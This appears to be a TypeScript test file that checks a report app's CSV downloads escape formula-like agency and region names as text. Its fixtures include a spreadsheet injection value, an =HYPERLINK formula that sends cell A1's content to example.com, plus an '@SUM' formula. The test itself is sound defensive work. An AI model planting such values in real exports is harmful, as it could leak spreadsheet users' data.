// Every CSV download goes through the one formula-safe writer (lib/csv.ts): a report's CSV, the
// region's roll-up CSV and its long figures.csv, read here from a real database with an agency
// and a region whose names a spreadsheet would run as formulas (names that reached the database
// before they were refused at input, or through an imported exchange document).
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { CSV_HEADER, writeCsv } from "@/lib/documents/csv-writer";
import type { ReportDocument } from "@/lib/exchange";
import { ensureRegion } from "@/lib/server/regions/ensure-region";
import { importReport } from "@/lib/server/reports/import-report";
import { cellsOf, emptySections, getTemplate } from "@/lib/templates";
import { freshDatabase } from "./db-helpers";

vi.mock("server-only", () => ({}));

let ctx: Awaited<ReturnType<typeof freshDatabase>>;
const FORMULA_AGENCY = '=HYPERLINK("http://example.com/?"&A1,"点击")';
const FORMULA_REGION = "@SUM(1+1)县";
const COUNTY = { code: "650121", name: FORMULA_REGION };
let doc: ReportDocument;

function report(): ReportDocument {
  const t = getTemplate("2019");
  const s = emptySections(t, 0);
  s.applications.received!.naturalPerson = 3;
  s.applications.granted!.naturalPerson = 3;
  s.proactive.licensing!.change = -3;
  s.proactive.procurement!.amount = 12.5;
  for (const cell of cellsOf(t)) if (cell.derived) delete s[cell.section][cell.row]![cell.column];
  return {
    format: "gov-info-disclosure-annual-report/v1",
    template: "2019",
    agency: { code: "650121100000", name: FORMULA_AGENCY, region: COUNTY },
    year: 2020,
    issuedOn: "2021-01-20",
    contact: { address: "地址", phone: "0951-1234567", email: "a@example.cn" },
    narrative: { overview: "总体情况", problems: "存在问题", other: "无" },
    ...s,
  } as ReportDocument;
}

async function text(stream: ReadableStream<Uint8Array>) {
  return Buffer.from(await new Response(stream).arrayBuffer());
}
function records(bytes: Buffer): string[][] {
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  return parse(bytes.subarray(3).toString("utf8")) as string[][];
}

beforeAll(async () => {
  ctx = await freshDatabase("govreports_csv");
  process.env.DATABASE_URL = ctx.url;
  for (const r of [{ code: "650000", name: "测试自治区" }, { code: "650100", name: "测试市" }, COUNTY]) await ensureRegion(ctx.db, r);
  doc = report();
  const r = await importReport(ctx.db, doc, { publish: true, actor: { label: "test" } });
  if (!r.ok) throw new Error(r.errors.join("\n"));
}, 120_000);
afterAll(async () => ctx?.drop());

describe("CSV downloads", () => {
  it("the region's figures.csv has the long-form Chinese columns of a report's CSV, names as text, negative figures as numbers", async () => {
    const { figuresCsvStream } = await import("@/lib/server/statistics/region-exports");
    const rows = records(await text(figuresCsvStream("650100", 2020)));
    expect(rows[0]).toEqual([...CSV_HEADER]);
    expect(rows).toHaveLength(1 + cellsOf(getTemplate("2019")).length);
    const body = rows.slice(1);
    expect(new Set(body.map((r) => r[1]))).toEqual(new Set([`'${FORMULA_AGENCY}`]));
    const change = body.find((r) => r[5] === "licensing" && r[6] === "change")!;
    expect(change.at(-1)).toBe("-3");
    expect(body.find((r) => r[5] === "procurement" && r[6] === "amount")!.at(-1)).toBe("12.5");
    // the same lines as the report's own CSV
    const own = records(writeCsv((await ctx.db.publishedVersion.findFirstOrThrow()).document as unknown as ReportDocument));
    expect(own).toEqual(rows);
  });

  it("the region's roll-up CSV writes the region's name as text", async () => {
    const { getRegionRollup } = await import("@/lib/server/statistics/region-rollup");
    const { regionRollupCsv } = await import("@/lib/server/statistics/region-exports");
    const rows = records(Buffer.from(regionRollupCsv((await getRegionRollup("650121", 2020))!), "utf8"));
    expect(new Set(rows.slice(1).map((r) => r[1]))).toEqual(new Set([`'${FORMULA_REGION}`]));
    const change = rows.find((r) => r[6] === "licensing" && r[7] === "change")!;
    expect(change[8]).toBe("-3");
  });
});
